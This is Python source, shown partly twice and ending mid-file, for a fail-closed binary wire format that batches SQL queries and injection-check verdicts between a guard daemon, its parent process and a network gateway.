#: ``StageTimings.STAGES`` (asserted where the daemon imports this
#: module, so the two can never drift silently).
STAGES = ("spawn", "ipc", "parse", "match", "cache")

_HEADER = struct.Struct("<2sBBH")
_U32 = struct.Struct("<I")
_U16 = struct.Struct("<H")
_DELTAS = struct.Struct("<5d")
_TOKEN = struct.Struct("<BII")

#: from_cache wire codes (2 bits of the verdict flags byte).
_CACHE_CODES = {None: 0, "query": 1, "structure": 2}
_CACHE_NAMES = {code: name for name, code in _CACHE_CODES.items()}

#: Token types allowed on the wire -- exactly the types
#: ``critical_tokens`` can emit.  Literals (STRING/NUMBER) never cross:
#: their values are decoded objects that spans cannot reconstruct, and
#: they are never critical tokens in the first place.
_TYPE_CODES = {
    TokenType.KEYWORD: 0,
    TokenType.IDENTIFIER: 1,
    TokenType.OPERATOR: 2,
    TokenType.PUNCTUATION: 3,
    TokenType.COMMENT: 4,
}
_CODE_TYPES = {code: ttype for ttype, code in _TYPE_CODES.items()}


class WireFormatError(ValueError):
    """A frame (or a batch about to become one) violates the wire format."""


def is_frame(buf: bytes) -> bool:
    """Whether ``buf`` is a packed frame (vs a legacy pickle payload).

    Unambiguous: packed frames start with ``b"JZ"``; every pickle the
    legacy protocol produces starts with the protocol-2+ opcode
    ``b"\\x80"``.
    """
    return buf[:2] == MAGIC


def _derived_value(ttype: TokenType, text: str) -> object:
    """The semantic value the lexer assigns to a critical token's text.

    Single source of truth for both ends of the wire: the packer verifies
    a token's actual value equals this derivation (else it refuses to
    pack), and the unpacker applies it -- making span round-trips
    byte-exact by construction.
    """
    if ttype is TokenType.KEYWORD:
        return text.lower()
    if ttype is TokenType.IDENTIFIER and text[:1] == "`":
        return _string_value(text, "`")
    return text


def spans_from_tokens(tokens: Iterable[Token]) -> list[tuple[int, int, int]]:
    """Compress tokens to ``(type_code, start, end)`` wire spans.

    Raises :class:`WireFormatError` for any token whose exact ``(type,
    text, value)`` could not be rebuilt from its span alone -- unknown
    type, span/text disagreement, or a value differing from the lexer
    derivation.  Callers treat that as "this reply cannot use the packed
    format", not as a failure of the analysis.
    """
    spans: list[tuple[int, int, int]] = []
    for token in tokens:
        code = _TYPE_CODES.get(token.type)
        if code is None:
            raise WireFormatError(f"token type not wire-packable: {token.type}")
        if token.value != _derived_value(token.type, token.text):
            raise WireFormatError(f"token value not derivable from span: {token!r}")
        spans.append((code, token.start, token.end))
    return spans


def tokens_from_spans(
    query: str, spans: Iterable[tuple[int, int, int]]
) -> list[Token]:
    """Rebuild exact :class:`Token` objects from wire spans.

    ``text`` is resliced from ``query`` (sharing the string the caller
    already holds) and ``value`` recomputed via the lexer's derivation
    rules; the result is equal, field for field, to the tokens the remote
    lexer produced.
    """
    n = len(query)
    out: list[Token] = []
    for code, start, end in spans:
        ttype = _CODE_TYPES.get(code)
        if ttype is None:
            raise WireFormatError(f"unknown token type code: {code}")
        if not (0 <= start <= end <= n):
            raise WireFormatError(
                f"token span [{start}:{end}) outside query of length {n}"
            )
        text = query[start:end]
        out.append(Token(ttype, text, start, end, value=_derived_value(ttype, text)))
    return out


# ----------------------------------------------------------------------
# Request frames
# ----------------------------------------------------------------------


def pack_batch_request(queries: Sequence[str]) -> bytearray:
    """Pack a query batch into one pre-sized request frame.

    Returns a :class:`bytearray` sized exactly to the frame; hand it to
    ``Connection.send_bytes`` directly (it satisfies the buffer protocol,
    so no further copy or pickling happens on send).
    """
    count = len(queries)
    if count == 0:
        raise WireFormatError("empty batch")
    if count > MAX_BATCH:
        raise WireFormatError(f"batch of {count} exceeds MAX_BATCH={MAX_BATCH}")
    # surrogatepass: round-trips every Python str, including lone
    # surrogates smuggled in by hostile byte sequences.
    encoded = [q.encode("utf-8", "surrogatepass") for q in queries]
    total = _HEADER.size + sum(_U32.size + len(qb) for qb in encoded)
    if total > MAX_FRAME:
        raise WireFormatError(f"frame of {total} bytes exceeds MAX_FRAME={MAX_FRAME}")
    frame = bytearray(total)
    _HEADER.pack_into(frame, 0, MAGIC, VERSION, KIND_REQUEST, count)
    offset = _HEADER.size
    for qb in encoded:
        _U32.pack_into(frame, offset, len(qb))
        offset += _U32.size
        frame[offset : offset + len(qb)] = qb
        offset += len(qb)
    return frame


def _check_header(frame: bytes, expected_kind: int) -> int:
    if len(frame) > MAX_FRAME:
        raise WireFormatError(f"frame of {len(frame)} bytes exceeds MAX_FRAME")
    if len(frame) < _HEADER.size:
        raise WireFormatError(f"truncated header: {len(frame)} bytes")
    magic, version, kind, count = _HEADER.unpack_from(frame, 0)
    if magic != MAGIC:
        raise WireFormatError(f"bad magic: {magic!r}")
    if version != VERSION:
        raise WireFormatError(f"unsupported wire version: {version}")
    if kind != expected_kind:
        raise WireFormatError(f"unexpected frame kind: {kind} != {expected_kind}")
    if not 0 < count <= MAX_BATCH:
        raise WireFormatError(f"frame count out of range: {count}")
    return count


def unpack_batch_request(frame: bytes) -> list[str]:
    """Decode a request frame back into its query list (fail-closed)."""
    count = _check_header(frame, KIND_REQUEST)
    queries: list[str] = []
    offset = _HEADER.size
    n = len(frame)
    for _ in range(count):
        if offset + _U32.size > n:
            raise WireFormatError("truncated query length prefix")
        (blen,) = _U32.unpack_from(frame, offset)
        offset += _U32.size
        if offset + blen > n:
            raise WireFormatError("truncated query payload")
        queries.append(
            bytes(frame[offset : offset + blen]).decode("utf-8", "surrogatepass")
        )
        offset += blen
    if offset != n:
        raise WireFormatError(f"{n - offset} trailing bytes after request frame")
    return queries


# ----------------------------------------------------------------------
# Reply frames
# ----------------------------------------------------------------------

_F_SAFE = 0x01
_F_CACHE_SHIFT = 1
_F_CACHE_MASK = 0x06
_F_HAS_TOKENS = 0x08


def pack_batch_reply(
    verdicts: Sequence[tuple[bool, str | None, Sequence[tuple[int, int, int]] | None]],
    deltas: dict[str, float],
) -> bytearray:
    """Pack per-query verdicts plus one batch-level stage-delta block.

    Each verdict is ``(safe, from_cache, spans)`` with ``spans`` from
    :func:`spans_from_tokens` (or ``None`` for a cache hit that carried no
    tokens).  ``deltas`` holds the child's stage-timing deltas for the
    whole batch -- one block per frame, since the parent attributes
    timings per round-trip, not per query.
    """
    count = len(verdicts)
    if count == 0:
        raise WireFormatError("empty reply batch")
    if count > MAX_BATCH:
        raise WireFormatError(f"reply batch of {count} exceeds MAX_BATCH={MAX_BATCH}")
    total = _HEADER.size + _DELTAS.size
    for _safe, from_cache, spans in verdicts:
        if from_cache not in _CACHE_CODES:
            raise WireFormatError(f"unknown from_cache: {from_cache!r}")
        total += 1
        if spans is not None:
            if len(spans) > 0xFFFF:
                raise WireFormatError(f"too many tokens in reply: {len(spans)}")
            total += _U16.size + _TOKEN.size * len(spans)
    if total > MAX_FRAME:
        raise WireFormatError(f"frame of {total} bytes exceeds MAX_FRAME={MAX_FRAME}")
    frame = bytearray(total)
    _HEADER.pack_into(frame, 0, MAGIC, VERSION, KIND_REPLY, count)
    offset = _HEADER.size
    _DELTAS.pack_into(frame, offset, *(deltas.get(stage, 0.0) for stage in STAGES))
    offset += _DELTAS.size
    for safe, from_cache, spans in verdicts:
        flags = (_F_SAFE if safe else 0) | (
            _CACHE_CODES[from_cache] << _F_CACHE_SHIFT
        )
        if spans is not None:
            flags |= _F_HAS_TOKENS
        frame[offset] = flags
        offset += 1
        if spans is not None:
            _U16.pack_into(frame, offset, len(spans))
            offset += _U16.size
            for code, start, end in spans:
                _TOKEN.pack_into(frame, offset, code, start, end)
                offset += _TOKEN.size
    return frame


def unpack_batch_reply(
    frame: bytes,
) -> tuple[
    list[tuple[bool, str | None, list[tuple[int, int, int]] | None]],
    dict[str, float],
]:
    """Decode a reply frame: ``(verdicts, stage_deltas)`` (fail-closed)."""
    count = _check_header(frame, KIND_REPLY)
    n = len(frame)
    offset = _HEADER.size
    if offset + _DELTAS.size > n:
        raise WireFormatError("truncated stage-delta block")
    values = _DELTAS.unpack_from(frame, offset)
    offset += _DELTAS.size
    deltas = dict(zip(STAGES, values))
    verdicts: list[tuple[bool, str | None, list[tuple[int, int, int]] | None]] = []
    for _ in range(count):
        if offset >= n:
            raise WireFormatError("truncated verdict flags")
        flags = frame[offset]
        offset += 1
        if flags & ~(_F_SAFE | _F_CACHE_MASK | _F_HAS_TOKENS):
            raise WireFormatError(f"unknown verdict flag bits: 0x{flags:02x}")
        cache_code = (flags & _F_CACHE_MASK) >> _F_CACHE_SHIFT
        if cache_code not in _CACHE_NAMES:
            raise WireFormatError(f"unknown from_cache code: {cache_code}")
        spans: list[tuple[int, int, int]] | None = None
        if flags & _F_HAS_TOKENS:
            if offset + _U16.size > n:
                raise WireFormatError("truncated token count")
            (ntok,) = _U16.unpack_from(frame, offset)
            offset += _U16.size
            if offset + _TOKEN.size * ntok > n:
                raise WireFormatError("truncated token spans")
            spans = []
            for _ in range(ntok):
                spans.append(_TOKEN.unpack_from(frame, offset))
                offset += _TOKEN.size
        verdicts.append((bool(flags & _F_SAFE), _CACHE_NAMES[cache_code], spans))
    if offset != n:
        raise WireFormatError(f"{n - offset} trailing bytes after reply frame")
    return verdicts, deltas
