"""Zero-copy batch wire format for the PTI daemon pipe (DESIGN.md §11).

The legacy daemon protocol pickles one query per ``Connection.send`` and
one ``(safe, from_cache, tokens, deltas)`` tuple per reply.  Pickle is
convenient but costs a full object-graph walk per query -- per-token
dataclass reduction dominated the wire time in profiles -- and forces one
IPC exchange (and one deadline clamp) per query.

This module packs a whole *batch* into one struct-packed frame each way:

``request``::

    "JZ" | version:B | kind:B=1 | count:H          (6-byte header)
    repeat count:  byte_len:I | utf-8 query bytes

``reply``::

    "JZ" | version:B | kind:B=2 | count:H          (6-byte header)
    stage deltas: 5 doubles (spawn, ipc, parse, match, cache)
    repeat count:
        flags:B    bit0 = safe, bits1-2 = from_cache code
                   (0 none / 1 "query" / 2 "structure"), bit3 = has_tokens
        if has_tokens:  n:H  then n * (type_code:B | start:I | end:I)

Key properties:

- **Pre-sized buffers.**  Frames are assembled with ``struct.pack_into``
  into one exactly-sized ``bytearray`` -- no length-prefix + payload
  concatenation, no intermediate ``bytes`` per field.  The bytearray goes
  straight to ``Connection.send_bytes`` (buffer protocol, no pickle).
- **Tokens travel as spans.**  A reply token is ``(type_code, start,
  end)``: 9 bytes instead of a pickled Token.  The receiver reslices
  ``query[start:end]`` -- sharing the query string it already holds -- and
  recomputes the semantic value.  This is *exact*, not approximate: the
  critical-token types that cross the wire (KEYWORD, IDENTIFIER, OPERATOR,
  PUNCTUATION, COMMENT) all derive ``value`` deterministically from
  ``text`` (lowercased keyword, backtick-unquoted identifier, verbatim
  otherwise).  :func:`spans_from_tokens` *verifies* that derivation per
  token at pack time and refuses (``WireFormatError``) on any token it
  could not reconstruct byte-exactly -- the daemon loop then falls back to
  a pickled reply rather than ship a lossy one.
- **Fail-closed decoding.**  Every unpack validates magic, version, kind,
  counts, bounds and exact frame length; anything off raises
  :class:`WireFormatError`, which the parent converts to
  :class:`~repro.core.resilience.CorruptReply` (a typed PTI failure --
  never a verdict).
- **Protocol coexistence.**  Packed frames start with ``b"JZ"`` while every
  pickle starts with ``b"\\x80"`` (protocol 2+ opcode), so a single child
  loop can serve both by sniffing :func:`is_frame` on the raw bytes.

Bounds: :data:`MAX_BATCH` queries per frame and :data:`MAX_FRAME` bytes
per frame.  Oversized batches are a *caller* error, rejected before any
I/O with a recorded reason, so a runaway batcher cannot wedge the pipe.

Gateway frames (DESIGN.md section 12).  The async guard gateway
(``repro/service/``) speaks the same magic/version/kind header over unix
and TCP sockets, each frame preceded by a little-endian u32 length prefix
(:data:`PREFIX`), so a listener can refuse an oversized frame *before*
reading its payload:

``gateway request`` (kind 3)::

    "JZ" | version:B | kind:B=3 | count:H        (count = queries)
    budget:d            per-request deadline budget in seconds; NaN means
                        "unbounded" (the server clamps either way)
    client_id: len:H | utf-8    tenant/connection attribution id
    path:      len:H | utf-8    request path for the audit trail
    inputs:    n:H  then n * (source len:H|bytes, name len:H|bytes,
                              value len:I|bytes)   -- the NTI input snapshot
    repeat count:  byte_len:I | utf-8 query bytes

``gateway reply`` (kind 4)::

    header (count = verdicts)
    repeat count:  byte_len:I | verdict payload (UTF-8 JSON, see
                   ``repro.service.codec``)

``gateway error`` (kind 5)::

    header (count = 1)
    code:B | message len:H | utf-8

The framing layer treats verdict payloads as opaque bytes -- the gateway
codec owns their JSON schema -- so every byte-level failure mode (torn
frame, corrupt header, bad length, trailing junk) is caught here as
:class:`WireFormatError` and both ends resolve it fail-closed.
"""

from __future__ import annotations

import math
import struct
from typing import Iterable, NamedTuple, Sequence

from ..sqlparser.lexer import _string_value
from ..sqlparser.tokens import Token, TokenType

__all__ = [
    "MAGIC",
    "VERSION",
    "KIND_REQUEST",
    "KIND_REPLY",
    "KIND_GW_REQUEST",
    "KIND_GW_REPLY",
    "KIND_GW_ERROR",
    "KIND_SNAPSHOT",
    "KIND_SNAPSHOT_ACK",
    "MAX_BATCH",
    "MAX_FRAME",
    "MAX_INPUTS",
    "PREFIX",
    "STAGES",
    "WireFormatError",
    "GatewayRequest",
    "GW_ERR_BAD_FRAME",
    "GW_ERR_OVERSIZED",
    "GW_ERR_DRAINING",
    "GW_ERR_INTERNAL",
    "is_frame",
    "peek_kind",
    "pack_batch_request",
    "unpack_batch_request",
    "pack_batch_reply",
    "unpack_batch_reply",
    "pack_gateway_request",
    "unpack_gateway_request",
    "pack_gateway_reply",
    "unpack_gateway_reply",
    "pack_gateway_error",
    "unpack_gateway_error",
    "pack_store_snapshot",
    "unpack_store_snapshot",
    "pack_snapshot_ack",
    "unpack_snapshot_ack",
    "spans_from_tokens",
    "tokens_from_spans",
]

MAGIC = b"JZ"
VERSION = 1
KIND_REQUEST = 1
KIND_REPLY = 2
KIND_GW_REQUEST = 3
KIND_GW_REPLY = 4
KIND_GW_ERROR = 5
KIND_SNAPSHOT = 6
KIND_SNAPSHOT_ACK = 7

#: Hard per-frame bounds.  A batch larger than MAX_BATCH is rejected
#: *before* any I/O; a frame larger than MAX_FRAME is rejected by both
#: packer and unpacker (a length-prefix bomb cannot allocate unbounded
#: memory in either process).
MAX_BATCH = 256
MAX_FRAME = 16 * 1024 * 1024

#: Captured inputs per gateway request (the NTI snapshot of one HTTP
#: request; real requests carry a handful, so a frame declaring thousands
#: is hostile and refused outright).
MAX_INPUTS = 256

#: Socket-level length prefix: every gateway frame travels as
#: ``PREFIX.pack(len(frame)) + frame``.  A listener reads these 4 bytes,
#: bound-checks against :data:`MAX_FRAME`, and only then reads the payload
#: -- a length-prefix bomb never allocates.
PREFIX = struct.Struct("<I")

#: Stage order of the packed deltas block.  Mirrors
#: ``StageTimings.STAGES`` (asserted where the daemon imports this
#: module, so the two can never drift silently).
STAGES = ("spawn", "ipc", "parse", "match", "cache")

_HEADER = struct.Struct("<2sBBH")
_U32 = struct.Struct("<I")
_U16 = struct.Struct("<H")
_DELTAS = struct.Struct("<5d")
_TOKEN = struct.Struct("<BII")

#: from_cache wire codes (2 bits of the verdict flags byte).
_CACHE_CODES = {None: 0, "query": 1, "structure": 2}
_CACHE_NAMES = {code: name for name, code in _CACHE_CODES.items()}

#: Token types allowed on the wire -- exactly the types
#: ``critical_tokens`` can emit.  Literals (STRING/NUMBER) never cross:
#: their values are decoded objects that spans cannot reconstruct, and
#: they are never critical tokens in the first place.
_TYPE_CODES = {
    TokenType.KEYWORD: 0,
    TokenType.IDENTIFIER: 1,
    TokenType.OPERATOR: 2,
    TokenType.PUNCTUATION: 3,
    TokenType.COMMENT: 4,
}
_CODE_TYPES = {code: ttype for ttype, code in _TYPE_CODES.items()}


class WireFormatError(ValueError):
    """A frame (or a batch about to become one) violates the wire format."""


def is_frame(buf: bytes) -> bool:
    """Whether ``buf`` is a packed frame (vs a legacy pickle payload).

    Unambiguous: packed frames start with ``b"JZ"``; every pickle the
    legacy protocol produces starts with the protocol-2+ opcode
    ``b"\\x80"``.
    """
    return buf[:2] == MAGIC


def peek_kind(frame: bytes) -> int:
    """Validate magic/version and return the frame kind byte.

    Lets a receiver branch on reply-vs-error before committing to a full
    unpack; any header damage raises :class:`WireFormatError` so the
    caller's only options are a typed refusal or a clean disconnect.
    """
    if len(frame) < _HEADER.size:
        raise WireFormatError(f"truncated header: {len(frame)} bytes")
    magic, version, kind, _count = _HEADER.unpack_from(frame, 0)
    if magic != MAGIC:
        raise WireFormatError(f"bad magic: {magic!r}")
    if version != VERSION:
        raise WireFormatError(f"unsupported wire version: {version}")
    return kind


def _derived_value(ttype: TokenType, text: str) -> object:
    """The semantic value the lexer assigns to a critical token's text.

    Single source of truth for both ends of the wire: the packer verifies
    a token's actual value equals this derivation (else it refuses to
    pack), and the unpacker applies it -- making span round-trips
    byte-exact by construction.
    """
    if ttype is TokenType.KEYWORD:
        return text.lower()
    if ttype is TokenType.IDENTIFIER and text[:1] == "`":
        return _string_value(text, "`")
    return text


def spans_from_tokens(tokens: Iterable[Token]) -> list[tuple[int, int, int]]:
    """Compress tokens to ``(type_code, start, end)`` wire spans.

    Raises :class:`WireFormatError` for any token whose exact ``(type,
    text, value)`` could not be rebuilt from its span alone -- unknown
    type, span/text disagreement, or a value differing from the lexer
    derivation.  Callers treat that as "this reply cannot use the packed
    format", not as a failure of the analysis.
    """
    spans: list[tuple[int, int, int]] = []
    for token in tokens:
        code = _TYPE_CODES.get(token.type)
        if code is None:
            raise WireFormatError(f"token type not wire-packable: {token.type}")
        if token.value != _derived_value(token.type, token.text):
            raise WireFormatError(f"token value not derivable from span: {token!r}")
        spans.append((code, token.start, token.end))
    return spans


def tokens_from_spans(
    query: str, spans: Iterable[tuple[int, int, int]]
) -> list[Token]:
    """Rebuild exact :class:`Token` objects from wire spans.

    ``text`` is resliced from ``query`` (sharing the string the caller
    already holds) and ``value`` recomputed via the lexer's derivation
    rules; the result is equal, field for field, to the tokens the remote
    lexer produced.
    """
    n = len(query)
    out: list[Token] = []
    for code, start, end in spans:
        ttype = _CODE_TYPES.get(code)
        if ttype is None:
            raise WireFormatError(f"unknown token type code: {code}")
        if not (0 <= start <= end <= n):
            raise WireFormatError(
                f"token span [{start}:{end}) outside query of length {n}"
            )
        text = query[start:end]
        out.append(Token(ttype, text, start, end, value=_derived_value(ttype, text)))
    return out


# ----------------------------------------------------------------------
# Request frames
# ----------------------------------------------------------------------


def pack_batch_request(queries: Sequence[str]) -> bytearray:
    """Pack a query batch into one pre-sized request frame.

    Returns a :class:`bytearray` sized exactly to the frame; hand it to
    ``Connection.send_bytes`` directly (it satisfies the buffer protocol,
    so no further copy or pickling happens on send).
    """
    count = len(queries)
    if count == 0:
        raise WireFormatError("empty batch")
    if count > MAX_BATCH:
        raise WireFormatError(f"batch of {count} exceeds MAX_BATCH={MAX_BATCH}")
    # surrogatepass: round-trips every Python str, including lone
    # surrogates smuggled in by hostile byte sequences.
    encoded = [q.encode("utf-8", "surrogatepass") for q in queries]
    total = _HEADER.size + sum(_U32.size + len(qb) for qb in encoded)
    if total > MAX_FRAME:
        raise WireFormatError(f"frame of {total} bytes exceeds MAX_FRAME={MAX_FRAME}")
    frame = bytearray(total)
    _HEADER.pack_into(frame, 0, MAGIC, VERSION, KIND_REQUEST, count)
    offset = _HEADER.size
    for qb in encoded:
        _U32.pack_into(frame, offset, len(qb))
        offset += _U32.size
        frame[offset : offset + len(qb)] = qb
        offset += len(qb)
    return frame


def _check_header(frame: bytes, expected_kind: int) -> int:
    if len(frame) > MAX_FRAME:
        raise WireFormatError(f"frame of {len(frame)} bytes exceeds MAX_FRAME")
    if len(frame) < _HEADER.size:
        raise WireFormatError(f"truncated header: {len(frame)} bytes")
    magic, version, kind, count = _HEADER.unpack_from(frame, 0)
    if magic != MAGIC:
        raise WireFormatError(f"bad magic: {magic!r}")
    if version != VERSION:
        raise WireFormatError(f"unsupported wire version: {version}")
    if kind != expected_kind:
        raise WireFormatError(f"unexpected frame kind: {kind} != {expected_kind}")
    if not 0 < count <= MAX_BATCH:
        raise WireFormatError(f"frame count out of range: {count}")
    return count


def unpack_batch_request(frame: bytes) -> list[str]:
    """Decode a request frame back into its query list (fail-closed)."""
    count = _check_header(frame, KIND_REQUEST)
    queries: list[str] = []
    offset = _HEADER.size
    n = len(frame)
    for _ in range(count):
        if offset + _U32.size > n:
            raise WireFormatError("truncated query length prefix")
        (blen,) = _U32.unpack_from(frame, offset)
        offset += _U32.size
        if offset + blen > n:
            raise WireFormatError("truncated query payload")
        queries.append(
            _decode_text(bytes(frame[offset : offset + blen]), "query")
        )
        offset += blen
    if offset != n:
        raise WireFormatError(f"{n - offset} trailing bytes after request frame")
    return queries


# ----------------------------------------------------------------------
# Reply frames
# ----------------------------------------------------------------------

_F_SAFE = 0x01
_F_CACHE_SHIFT = 1
_F_CACHE_MASK = 0x06
_F_HAS_TOKENS = 0x08


def pack_batch_reply(
    verdicts: Sequence[tuple[bool, str | None, Sequence[tuple[int, int, int]] | None]],
    deltas: dict[str, float],
) -> bytearray:
    """Pack per-query verdicts plus one batch-level stage-delta block.

    Each verdict is ``(safe, from_cache, spans)`` with ``spans`` from
    :func:`spans_from_tokens` (or ``None`` for a cache hit that carried no
    tokens).  ``deltas`` holds the child's stage-timing deltas for the
    whole batch -- one block per frame, since the parent attributes
    timings per round-trip, not per query.
    """
    count = len(verdicts)
    if count == 0:
        raise WireFormatError("empty reply batch")
    if count > MAX_BATCH:
        raise WireFormatError(f"reply batch of {count} exceeds MAX_BATCH={MAX_BATCH}")
    total = _HEADER.size + _DELTAS.size
    for _safe, from_cache, spans in verdicts:
        if from_cache not in _CACHE_CODES:
            raise WireFormatError(f"unknown from_cache: {from_cache!r}")
        total += 1
        if spans is not None:
            if len(spans) > 0xFFFF:
                raise WireFormatError(f"too many tokens in reply: {len(spans)}")
            total += _U16.size + _TOKEN.size * len(spans)
    if total > MAX_FRAME:
        raise WireFormatError(f"frame of {total} bytes exceeds MAX_FRAME={MAX_FRAME}")
    frame = bytearray(total)
    _HEADER.pack_into(frame, 0, MAGIC, VERSION, KIND_REPLY, count)
    offset = _HEADER.size
    _DELTAS.pack_into(frame, offset, *(deltas.get(stage, 0.0) for stage in STAGES))
    offset += _DELTAS.size
    for safe, from_cache, spans in verdicts:
        flags = (_F_SAFE if safe else 0) | (
            _CACHE_CODES[from_cache] << _F_CACHE_SHIFT
        )
        if spans is not None:
            flags |= _F_HAS_TOKENS
        frame[offset] = flags
        offset += 1
        if spans is not None:
            _U16.pack_into(frame, offset, len(spans))
            offset += _U16.size
            for code, start, end in spans:
                _TOKEN.pack_into(frame, offset, code, start, end)
                offset += _TOKEN.size
    return frame


def unpack_batch_reply(
    frame: bytes,
) -> tuple[
    list[tuple[bool, str | None, list[tuple[int, int, int]] | None]],
    dict[str, float],
]:
    """Decode a reply frame: ``(verdicts, stage_deltas)`` (fail-closed)."""
    count = _check_header(frame, KIND_REPLY)
    n = len(frame)
    offset = _HEADER.size
    if offset + _DELTAS.size > n:
        raise WireFormatError("truncated stage-delta block")
    values = _DELTAS.unpack_from(frame, offset)
    offset += _DELTAS.size
    deltas = dict(zip(STAGES, values))
    verdicts: list[tuple[bool, str | None, list[tuple[int, int, int]] | None]] = []
    for _ in range(count):
        if offset >= n:
            raise WireFormatError("truncated verdict flags")
        flags = frame[offset]
        offset += 1
        if flags & ~(_F_SAFE | _F_CACHE_MASK | _F_HAS_TOKENS):
            raise WireFormatError(f"unknown verdict flag bits: 0x{flags:02x}")
        cache_code = (flags & _F_CACHE_MASK) >> _F_CACHE_SHIFT
        if cache_code not in _CACHE_NAMES:
            raise WireFormatError(f"unknown from_cache code: {cache_code}")
        spans: list[tuple[int, int, int]] | None = None
        if flags & _F_HAS_TOKENS:
            if offset + _U16.size > n:
                raise WireFormatError("truncated token count")
            (ntok,) = _U16.unpack_from(frame, offset)
            offset += _U16.size
            if offset + _TOKEN.size * ntok > n:
                raise WireFormatError("truncated token spans")
            spans = []
            for _ in range(ntok):
                spans.append(_TOKEN.unpack_from(frame, offset))
                offset += _TOKEN.size
        verdicts.append((bool(flags & _F_SAFE), _CACHE_NAMES[cache_code], spans))
    if offset != n:
        raise WireFormatError(f"{n - offset} trailing bytes after reply frame")
    return verdicts, deltas


# ----------------------------------------------------------------------
# Gateway frames (network sidecar protocol, DESIGN.md section 12)
# ----------------------------------------------------------------------

_BUDGET = struct.Struct("<d")


class GatewayRequest(NamedTuple):
    """One decoded gateway request: what a client asked the sidecar to vet."""

    queries: list[str]
    client_id: str
    path: str
    #: ``(source, name, value)`` triples -- the raw NTI input snapshot.
    inputs: list[tuple[str, str, str]]
    #: Remaining client deadline budget in seconds; ``None`` = unbounded
    #: (the server clamps either way).  Zero/negative values are shipped
    #: verbatim so the server can shed expired-on-arrival requests.
    budget: float | None


def _pack_str16(parts: list[bytes], text: str) -> int:
    raw = text.encode("utf-8", "surrogatepass")
    if len(raw) > 0xFFFF:
        raise WireFormatError(f"string field of {len(raw)} bytes exceeds u16")
    parts.append(_U16.pack(len(raw)))
    parts.append(raw)
    return _U16.size + len(raw)


def _decode_text(raw: bytes, what: str) -> str:
    """UTF-8 (surrogatepass) decode; damage -> :class:`WireFormatError`.

    ``surrogatepass`` round-trips lone surrogates but still rejects
    arbitrary invalid byte sequences, so a byte-mangled frame fails closed
    here instead of leaking :class:`UnicodeDecodeError` past the wire
    layer.
    """
    try:
        return raw.decode("utf-8", "surrogatepass")
    except UnicodeDecodeError as exc:
        raise WireFormatError(f"undecodable {what}: {exc}") from exc


def _unpack_str16(frame: bytes, offset: int, what: str) -> tuple[str, int]:
    if offset + _U16.size > len(frame):
        raise WireFormatError(f"truncated {what} length")
    (blen,) = _U16.unpack_from(frame, offset)
    offset += _U16.size
    if offset + blen > len(frame):
        raise WireFormatError(f"truncated {what} payload")
    text = _decode_text(bytes(frame[offset : offset + blen]), what)
    return text, offset + blen


def pack_gateway_request(
    queries: Sequence[str],
    *,
    client_id: str = "",
    path: str = "/",
    inputs: Sequence[tuple[str, str, str]] = (),
    budget: float | None = None,
) -> bytes:
    """Pack one client request frame (queries + context + deadline budget)."""
    count = len(queries)
    if count == 0:
        raise WireFormatError("empty gateway batch")
    if count > MAX_BATCH:
        raise WireFormatError(f"batch of {count} exceeds MAX_BATCH={MAX_BATCH}")
    if len(inputs) > MAX_INPUTS:
        raise WireFormatError(
            f"{len(inputs)} inputs exceed MAX_INPUTS={MAX_INPUTS}"
        )
    parts: list[bytes] = [
        _HEADER.pack(MAGIC, VERSION, KIND_GW_REQUEST, count),
        _BUDGET.pack(math.nan if budget is None else float(budget)),
    ]
    _pack_str16(parts, client_id)
    _pack_str16(parts, path)
    parts.append(_U16.pack(len(inputs)))
    for source, name, value in inputs:
        _pack_str16(parts, source)
        _pack_str16(parts, name)
        raw = value.encode("utf-8", "surrogatepass")
        parts.append(_U32.pack(len(raw)))
        parts.append(raw)
    for query in queries:
        raw = query.encode("utf-8", "surrogatepass")
        parts.append(_U32.pack(len(raw)))
        parts.append(raw)
    frame = b"".join(parts)
    if len(frame) > MAX_FRAME:
        raise WireFormatError(
            f"frame of {len(frame)} bytes exceeds MAX_FRAME={MAX_FRAME}"
        )
    return frame


def unpack_gateway_request(frame: bytes) -> GatewayRequest:
    """Decode a client request frame (fail-closed on any damage)."""
    count = _check_header(frame, KIND_GW_REQUEST)
    n = len(frame)
    offset = _HEADER.size
    if offset + _BUDGET.size > n:
        raise WireFormatError("truncated deadline budget")
    (raw_budget,) = _BUDGET.unpack_from(frame, offset)
    offset += _BUDGET.size
    budget = None if math.isnan(raw_budget) else raw_budget
    if budget is not None and math.isinf(budget):
        raise WireFormatError(f"non-finite deadline budget: {raw_budget!r}")
    client_id, offset = _unpack_str16(frame, offset, "client id")
    path, offset = _unpack_str16(frame, offset, "path")
    if offset + _U16.size > n:
        raise WireFormatError("truncated input count")
    (ninputs,) = _U16.unpack_from(frame, offset)
    offset += _U16.size
    if ninputs > MAX_INPUTS:
        raise WireFormatError(f"{ninputs} inputs exceed MAX_INPUTS={MAX_INPUTS}")
    inputs: list[tuple[str, str, str]] = []
    for _ in range(ninputs):
        source, offset = _unpack_str16(frame, offset, "input source")
        name, offset = _unpack_str16(frame, offset, "input name")
        if offset + _U32.size > n:
            raise WireFormatError("truncated input value length")
        (blen,) = _U32.unpack_from(frame, offset)
        offset += _U32.size
        if offset + blen > n:
            raise WireFormatError("truncated input value payload")
        value = _decode_text(bytes(frame[offset : offset + blen]), "input value")
        offset += blen
        inputs.append((source, name, value))
    queries: list[str] = []
    for _ in range(count):
        if offset + _U32.size > n:
            raise WireFormatError("truncated query length prefix")
        (blen,) = _U32.unpack_from(frame, offset)
        offset += _U32.size
        if offset + blen > n:
            raise WireFormatError("truncated query payload")
        queries.append(
            _decode_text(bytes(frame[offset : offset + blen]), "query")
        )
        offset += blen
    if offset != n:
        raise WireFormatError(f"{n - offset} trailing bytes after request frame")
    return GatewayRequest(queries, client_id, path, inputs, budget)


def pack_gateway_reply(payloads: Sequence[bytes]) -> bytes:
    """Pack per-query verdict payloads (opaque bytes, one per query).

    The payload schema (UTF-8 verdict JSON) belongs to
    ``repro.service.codec``; this layer only guarantees the count and the
    byte boundaries survive the wire intact.
    """
    count = len(payloads)
    if count == 0:
        raise WireFormatError("empty gateway reply")
    if count > MAX_BATCH:
        raise WireFormatError(f"reply of {count} exceeds MAX_BATCH={MAX_BATCH}")
    parts: list[bytes] = [_HEADER.pack(MAGIC, VERSION, KIND_GW_REPLY, count)]
    for payload in payloads:
        parts.append(_U32.pack(len(payload)))
        parts.append(bytes(payload))
    frame = b"".join(parts)
    if len(frame) > MAX_FRAME:
        raise WireFormatError(
            f"frame of {len(frame)} bytes exceeds MAX_FRAME={MAX_FRAME}"
        )
    return frame


def unpack_gateway_reply(frame: bytes) -> list[bytes]:
    """Decode a reply frame into its verdict payloads (fail-closed)."""
